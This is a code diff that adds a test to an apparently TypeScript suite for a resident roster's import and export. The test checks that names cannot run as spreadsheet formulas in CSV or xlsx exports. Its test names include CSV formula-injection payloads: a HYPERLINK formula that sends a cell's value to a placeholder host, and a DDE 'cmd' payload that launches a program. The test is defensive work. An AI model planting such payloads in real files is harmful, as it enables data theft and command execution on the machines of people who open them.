@@ -7,6 +7,7 @@
  * with exceljs and iconv-lite, as Excel would save them. Each test imports into a building of
  * its own, so no test sees another's rows.
  */
+import ExcelJS from 'exceljs';
 import { estateHourAfter } from '../../schema/callbacks/callback-timing';
 import { estateDate } from '../../schema/residents/local-date';
 import { coreOp, newSite, newStaff, run } from '../support/core-operations';
@@ -441,6 +442,65 @@ describe('roster import and export', () => {
     // a role that sees phones masked gets them masked in the file too
     const affairs = await exportOf('CSV', 'EN', await platform.login('affairs'));
     expect(Buffer.from(affairs.contentBase64, 'base64').toString('utf8')).not.toContain(phones[0]);
+  });
+
+  it('an export does not let a name run as a formula: CSV fields are guarded with a quote, xlsx cells are text, and both re-import as they were', async () => {
+    const building = await newBuilding();
+    const phones = [uniquePhone(), uniquePhone(), uniquePhone(), uniquePhone()];
+    const names = ['=HYPERLINK("http://x/?"&B2,"张三")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1 test', '-2 test'];
+    const grid: Grid = [
+      EN,
+      ...names.map((name, i) => [building.code, '0101', 1, name, phones[i], 'OWNER', '2021-01-01']),
+    ];
+    expect(await imported('f.xlsx', await xlsxBytes(grid))).toMatchObject({ imported: 4, errors: [] });
+    const exportOf = async (format: 'CSV' | 'XLSX') =>
+      (
+        await ok<{ exportResidents: { filename: string; contentBase64: string; rows: number } }>(
+          url,
+          EXPORT_RESIDENTS,
+          { format, headers: 'EN' },
+          site.supervisor,
+        )
+      ).exportResidents;
+    const csv = await exportOf('CSV');
+    const lines = Buffer.from(csv.contentBase64, 'base64').toString('utf8').slice(1).trim().split('\r\n');
+    const fieldsOf = (phone: string) => lines.find((l) => l.includes(phone))!;
+    expect(fieldsOf(phones[0])).toContain(`,"'=HYPERLINK(""http://x/?""&B2,""张三"")",`);
+    expect(fieldsOf(phones[1])).toContain(`,"'@SUM(1+1)*cmd|' /C calc'!A0",`);
+    expect(fieldsOf(phones[2])).toContain(`,"'+1 test",`);
+    expect(fieldsOf(phones[3])).toContain(`,"'-2 test",`);
+    // no field of the file starts a formula (a field is what follows a comma or a line start, quotes aside)
+    for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+
+    // xlsx: the names are string cells, not formulas, read back by exceljs
+    const xlsx = await exportOf('XLSX');
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(xlsx.contentBase64, 'base64') as unknown as ArrayBuffer);
+    const nameCells: ExcelJS.Cell[] = [];
+    workbook.worksheets[0].eachRow((row) => {
+      if (names.includes(String(row.getCell(5).value))) nameCells.push(row.getCell(5));
+    });
+    expect(nameCells.map((c) => c.value).sort()).toEqual([...names].sort());
+    for (const c of nameCells) {
+      expect(c.type).toBe(ExcelJS.ValueType.String); // a formula cell would read as ValueType.Formula
+      expect(c.formula).toBeUndefined();
+    }
+
+    // both files import again to the same names
+    const before = await archiveOf(building.id);
+    expect(before.map((r) => r.name).sort()).toEqual([...names].sort());
+    for (const [file, content] of [
+      [csv.filename, csv.contentBase64],
+      [xlsx.filename, xlsx.contentBase64],
+    ] as const) {
+      await sql(
+        `update occupancy set until = current_date where until is null and unit_id in
+           (select u.id from unit u join building b on b.id = u.building_id where b.site_id = ?)`,
+        [site.siteId],
+      );
+      expect(await imported(file, Buffer.from(content, 'base64'))).toMatchObject({ imported: csv.rows, errors: [] });
+      expect(await archiveOf(building.id)).toEqual(before);
+    }
   });
 
   it('exports the unit list, and technicians may not export', async () => {
